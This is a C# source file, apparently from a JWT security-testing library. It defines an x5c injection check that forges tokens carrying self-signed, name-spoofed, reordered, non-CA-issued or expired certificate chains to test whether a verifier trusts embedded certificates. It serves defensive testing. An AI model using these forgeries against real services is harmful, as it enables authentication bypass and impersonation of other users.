using System.Security.Cryptography.X509Certificates;
using System.Text.Json.Nodes;
using CryptoAssert.Jwt.Jose;
using Microsoft.IdentityModel.Tokens;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// The header carries a certificate that the attacker issued to himself, <c>x5c</c>, and the verifier takes its key: the chain
/// was never built, or built with unknown roots allowed. RFC 7515 4.1.6 asks for validation by RFC 5280.
/// </summary>
internal sealed class X5cInjection : JwtAttack
{
    public override string Id => "CRY1066";

    public override JwtFamily Family => JwtFamily.EmbeddedKey;

    public override IReadOnlyList<int> Cwe => [295, 347];

    public override IReadOnlyList<string> References => ["RFC 7515 4.1.6", "ASVS 9.1.3"];

    public override string Cause => "accepted a token that brought its own certificate (x5c)";

    public override string Why => "anyone can become anyone with a self-signed certificate";

    public override string Fix =>
        "ignore x5c; if you need it, build the chain with X509ChainTrustMode.CustomRootTrust and your own root, without AllowUnknownCertificateAuthority";

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        var token = attacker.Token;
        var signer = AttackerKeys.PublicKeySignerFor(token.Alg);
        var own = AttackerCertificates.SelfSigned(signer.Alg);
        yield return With("self-signed", Chain(own));
        if (attacker.PublicKeys.OfType<X509SecurityKey>().FirstOrDefault()?.Certificate is { } genuine)
        {
            var namesake = AttackerCertificates.SelfSigned(signer.Alg, genuine.SubjectName);
            yield return With("self-signed, the genuine certificate's name", Chain(namesake));
            yield return With("the genuine certificate behind it", Chain(own, genuine));
            yield return With("the genuine certificate in front of it", Chain(genuine, own));
        }

        var (leaf, issuer) = AttackerCertificates.IssuedByALeaf(signer.Alg);
        yield return With("issued by a certificate that is no CA", Chain(leaf, issuer));
        yield return With("another key's certificate in front of it", Chain(issuer, own));
        yield return With("expired", Chain(AttackerCertificates.Expired(signer.Alg)));
        yield return With("a string, not an array", Convert.ToBase64String(own.RawData));
        yield return With("self-signed, no kid", Chain(own), header => header.Remove("kid"));

        // standard base64 with padding: RFC 7515 4.1.6
        static JsonArray Chain(params X509Certificate2[] certificates) =>
            [.. certificates.Select(certificate => JsonValue.Create(Convert.ToBase64String(certificate.RawData)))];

        Forgery With(string variant, JsonNode chain, Action<JsonObject>? change = null) => new(
            ResignedJwt.With(token, signer, header =>
            {
                change?.Invoke(header);
                header["x5c"] = chain;
            }),
            variant);
    }
}
